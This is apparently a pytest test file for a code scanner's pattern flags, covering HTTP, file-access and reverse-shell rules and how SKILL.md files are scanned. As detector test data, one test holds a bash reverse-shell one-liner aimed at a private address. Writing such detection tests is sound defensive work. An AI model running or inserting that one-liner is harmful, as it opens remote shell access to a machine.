"""Tests for the secondary pattern flags."""

from __future__ import annotations

from pyxscan.core.cache import CachedFile
from pyxscan.core.rules.flags import FLAG_RULES, run_pre_scan_flags


class TestPreScanFlags:
    """Broad per-occurrence pattern flags."""

    def test_rule_table(self) -> None:
        """Eleven flag rules with distinct ids."""
        assert len({r.rule_id for r in FLAG_RULES}) == len(FLAG_RULES) == 11

    def test_every_occurrence_is_reported(self) -> None:
        """Two matches on one line give two flags."""
        result = run_pre_scan_flags([CachedFile("a.js", "fetch(a); fetch(b);")])
        http = [f for f in result.flags if f.rule_id == "HTTP_REQUEST"]
        assert len(http) == 2
        assert all(f.line == 1 for f in http)

    def test_reverse_shell(self) -> None:
        """Reverse shell idioms are critical."""
        result = run_pre_scan_flags([CachedFile("x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")])
        assert result.summary.critical >= 1
        assert {"REVERSE_SHELL"} <= {f.rule_id for f in result.flags}

    def test_markdown_skipped_except_skill_manifest(self) -> None:
        """README-style markdown is ignored; SKILL.md is scanned."""
        content = "Use fetch(url) to download."
        assert run_pre_scan_flags([CachedFile("docs/README.md", content)]).flags == ()
        assert run_pre_scan_flags([CachedFile("skills/a/SKILL.md", content)]).flags

    def test_to_list(self) -> None:
        """Flags serialize to plain dictionaries."""
        result = run_pre_scan_flags([CachedFile("a.js", "fs.readFile(p)")])
        rows = result.to_list()
        assert rows[0]["rule_id"] == "FS_ACCESS"
        assert rows[0]["file"] == "a.js"
